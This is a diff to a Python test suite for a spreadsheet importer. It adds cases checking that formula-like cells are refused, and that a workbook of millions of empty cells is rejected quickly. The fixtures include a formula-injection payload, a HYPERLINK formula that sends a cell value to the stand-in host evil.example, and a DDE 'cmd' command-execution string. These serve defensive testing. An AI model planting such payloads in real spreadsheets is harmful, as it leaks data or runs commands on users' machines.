@@ -430,6 +430,25 @@ def _refusals():
             "FORMULA",
             "数式が入力されたセルがあります(F2)",
         ),
+        # Text that normalises to "=…" (I-10; issue 14, defect 1): refused like a formula.
+        (
+            "full-width ＝ name",
+            workbook([row("K0001", '＝HYPERLINK("http://evil.example/?"&D3,"明細")')]),
+            "FORMULA",
+            "数式が入力されたセルがあります(B2)",
+        ),
+        (
+            "space before = name",
+            workbook([row("K0001"), row("K0002", " =cmd|' /C calc'!A0")]),
+            "FORMULA",
+            "数式が入力されたセルがあります(B3)",
+        ),
+        (
+            "U+3000 before = address",
+            workbook([row("K0001", 住所="\u3000=1+1")]),
+            "FORMULA",
+            "(F2)",
+        ),
         (
             "merged header",
             workbook([row("K0001")], prepare=_merged_header),
@@ -487,6 +506,41 @@ def test_unusable_files_are_refused_in_japanese_and_nothing_is_written(db, name,
     assert words in exc.value.message
     assert exc.value.status == 422
     assert store_count(db) == 0
+
+
+def test_values_are_checked_for_formulas_after_normalisation(db):
+    """I-10 (issue 14, defect 1): the plan refuses what its normalisers turn into text starting
+    with "=", whatever the reading let through: the stored value is what counts."""
+    from kariya.stores.importer.reading import Sheet
+
+    columns_of = {key: n for n, key in enumerate(columns.FIELDS, start=1)}
+    raw = {
+        key: row("K0001")[column.header]
+        for key, column in columns.BY_KEY.items()
+        if key in columns_of
+    }
+    sheet = Sheet(
+        columns=columns_of,
+        headers={key: columns.BY_KEY[key].header for key in columns_of},
+        ignored=[],
+        rows=[(2, raw), (3, {**raw, "code": "K0002", "name": "\u3000＝1+1"})],
+    )
+    with pytest.raises(ImportRefused) as exc:
+        planning.plan(db, sheet)
+    assert exc.value.code == "FORMULA" and "(B3)" in exc.value.message
+    assert "先頭の「=」を取り除いて" in exc.value.message
+
+
+def test_a_small_workbook_of_millions_of_empty_cells_is_refused_on_the_form(db, secretariat):
+    """I-10 (issue 14, defect 6): 3,000 rows x 1,000 empty formatted cells (75 KB) kept a worker
+    for 26 s; the upload is refused (422, Japanese) at once and nothing is kept."""
+    from tests.benchmarks.import_bounds import empty_cells
+
+    started = time.perf_counter()
+    response = upload(secretariat, empty_cells(3000, 1000), status=422)
+    assert time.perf_counter() - started < 5
+    assert "セルが多すぎるため取り込めません" in response.text
+    assert kept_uploads(db) == []
 
 
 # --- the template -------------------------------------------------------------------------------------
